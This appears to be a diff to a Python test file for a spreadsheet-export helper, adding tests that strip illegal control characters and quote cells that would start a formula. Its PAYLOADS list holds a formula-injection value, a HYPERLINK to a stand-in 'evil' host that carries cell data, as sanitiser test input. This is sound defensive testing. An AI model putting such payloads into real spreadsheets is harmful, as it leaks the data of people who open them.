@@ -13,7 +13,7 @@ from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
 from openpyxl.worksheet.worksheet import Worksheet
 
-from ipfin.common.excel import FORMULA_TRIGGERS, append_row, safe_text
+from ipfin.common.excel import FORMULA_TRIGGERS, append_row, safe_text, writable
 
 PAYLOADS = ['=HYPERLINK("http://evil?"&B2,"click")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
 
@@ -112,3 +112,31 @@ def test_append_row_of_no_values_writes_nothing() -> None:
     assert isinstance(ws, Worksheet)
     append_row(ws, [])
     assert ws.max_row == 1 and ws.cell(row=1, column=1).value is None
+
+
+def test_control_characters_an_xlsx_cannot_hold_are_dropped_before_the_formula_check() -> None:
+    """A tranche named "â\x14" failed the securitisation report's export with a 500 (API
+    fuzzing): openpyxl refuses such characters. They are dropped; a formula behind one is still
+    quoted; tab, line feed and carriage return stay."""
+    assert writable("â\x14") == "â"
+    assert writable("\x00=HYPERLINK(1)") == "'=HYPERLINK(1)"
+    assert writable("a\tb\nc") == "a\tb\nc"
+    assert writable(Decimal("1.00")) == Decimal("1.00")
+    wb = Workbook()
+    ws = wb.active
+    assert isinstance(ws, Worksheet)
+    append_row(ws, ["优先\x01A", "\x1b+1", 5])
+    buffer = io.BytesIO()
+    wb.save(buffer)
+    row = next(load_workbook(buffer).active.iter_rows(values_only=True))  # type: ignore[union-attr]
+    assert row == ("优先A", "'+1", 5)
+
+
+@given(st.text())
+def test_property_what_is_written_holds_no_illegal_character_and_never_starts_a_formula(
+    text: str,
+) -> None:
+    written = writable(text)
+    assert isinstance(written, str)
+    assert not any(ord(c) < 0x20 and c not in "\t\n\r" for c in written)
+    assert not written.startswith(FORMULA_TRIGGERS)
